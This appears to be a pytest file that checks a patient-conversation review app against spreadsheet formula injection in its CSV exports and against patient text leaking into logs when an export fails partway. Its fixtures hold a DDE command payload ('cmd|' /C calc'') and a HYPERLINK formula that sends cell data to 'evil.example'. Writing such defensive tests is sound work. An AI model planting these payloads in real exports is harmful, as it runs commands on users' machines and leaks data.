"""Exports: cells a spreadsheet would run are neutralised; a database error mid-stream logs no patient text."""
from __future__ import annotations

import csv
import io
import logging

import pytest
import sqlalchemy as sa

from tests.review.conftest import add_conversation, pk_of

# What Excel, LibreOffice and Google Sheets take as the start of a formula (tab and CR too:
# some of them drop a leading one and read what follows).
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


def cells(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def conversation_id(prefix, i):
    return f"{prefix}cmd|' /C calc'!A{i}"


def patient_text(prefix, i):
    return f'{prefix}HYPERLINK("http://evil.example/?leak="&A1,"question {i}")'


@pytest.fixture
def dangerous_app(small_tracker, make_app):
    for i, prefix in enumerate(DANGEROUS):
        add_conversation(small_tracker, conversation_id(prefix, i), patient_text(prefix, i))
    app = make_app(small_tracker, redact_contacts=False)
    store = app.extensions["review"]["store"]
    store.refresh()
    for i, prefix in enumerate(DANGEROUS):
        store.add_tag(conversation_id(prefix, i), f"{prefix}2+2 tag", "alice")
    return app


def assert_no_cell_starts_a_formula(rows):
    for row in rows:
        for cell in row:
            assert cell[:1] not in DANGEROUS, row


def test_list_csv_neutralises_ids_tags_and_messages(dangerous_app, sign_in):
    client = sign_in(dangerous_app)
    rows = cells(client.get("/export/conversations.csv").get_data(as_text=True))
    header, body = rows[0], rows[1:]
    by_id = {row[header.index("conversation_id")]: dict(zip(header, row)) for row in body}
    for i, prefix in enumerate(DANGEROUS):
        row = by_id["'" + conversation_id(prefix, i)]
        assert row["first_message"] == "'" + patient_text(prefix, i)
        assert row["tags"] == "'" + f"{prefix}2+2 tag"
    assert_no_cell_starts_a_formula(body)


@pytest.mark.parametrize("path", ["/export/transcripts.csv", "single"])
def test_transcript_csv_neutralises_ids_and_messages(dangerous_app, sign_in, path):
    client = sign_in(dangerous_app)
    wanted = {conversation_id(p, i): patient_text(p, i) for i, p in enumerate(DANGEROUS)}
    if path == "single":
        text = "".join(client.get(f"/conversations/{pk_of(dangerous_app, cid)}/transcript.csv").get_data(as_text=True)
                       for cid in wanted)
    else:
        text = client.get(path).get_data(as_text=True)
    rows = cells(text)
    header = rows[0]
    body = [dict(zip(header, row)) for row in rows[1:] if row != header]
    for cid, message in wanted.items():
        said = [r["text"] for r in body if r["conversation_id"] == "'" + cid and r["speaker"] == "patient"]
        assert said == ["'" + message], cid
    assert_no_cell_starts_a_formula([row for row in rows[1:] if row != header])


def test_json_exports_keep_the_text_as_it_is(dangerous_app, sign_in):
    """JSON is not a spreadsheet: no apostrophe there."""
    client = sign_in(dangerous_app)
    items = client.get("/export/conversations.json").get_json()["items"]
    ids = {item["conversation_id"] for item in items}
    assert {conversation_id(p, i) for i, p in enumerate(DANGEROUS)} <= ids


# -- errors while streaming ----------------------------------------------------

SECRET = "Zebulon's numbness since the fall"


def test_the_engines_never_put_bound_values_into_errors(small_tracker, make_app):
    app = make_app(small_tracker)
    store = app.extensions["review"]["store"]
    for engine in (store.engine, store.reader.engine):
        assert engine.hide_parameters
        with pytest.raises(sa.exc.StatementError) as raised:
            with engine.connect() as db:
                db.execute(sa.text("SELECT * FROM no_such_table WHERE x = :x"), {"x": SECRET})
        assert "Zebulon" not in str(raised.value)


@pytest.mark.parametrize("path", ["/export/transcripts.csv", "/export/transcripts.json",
                                  "/export/conversations.csv", "/export/conversations.json"])
def test_a_database_error_mid_export_logs_only_its_type(small_tracker, make_app, sign_in, caplog, monkeypatch,
                                                         path):
    from review.app import ExportInterrupted

    add_conversation(small_tracker, "secret-1", SECRET)
    app = make_app(small_tracker)
    store = app.extensions["review"]["store"]
    client = sign_in(app)
    error = sa.exc.OperationalError("SELECT data FROM events WHERE data LIKE ?", (f"%{SECRET}%",),
                                    Exception(f"disk I/O error near {SECRET}"))

    def fail_part_way(real):
        def wrapper(*args, **kwargs):
            iterator = iter(real(*args, **kwargs))
            yield next(iterator)
            raise error
        return wrapper

    if "transcripts" in path:
        monkeypatch.setattr(store.reader, "conversations", fail_part_way(store.reader.conversations))
    else:
        monkeypatch.setattr(store, "iter_filtered", fail_part_way(store.iter_filtered))
    caplog.set_level(logging.DEBUG)
    response = client.get(path)
    assert response.status_code == 200  # the headers had gone out
    with pytest.raises(ExportInterrupted) as raised:
        response.get_data()
    assert "Zebulon" not in str(raised.value) and raised.value.__suppress_context__
    messages = [record.getMessage() for record in caplog.records]
    assert any("export stopped part way: OperationalError" in message for message in messages), messages
    for record in caplog.records:
        assert "Zebulon" not in record.getMessage() and record.exc_info is None
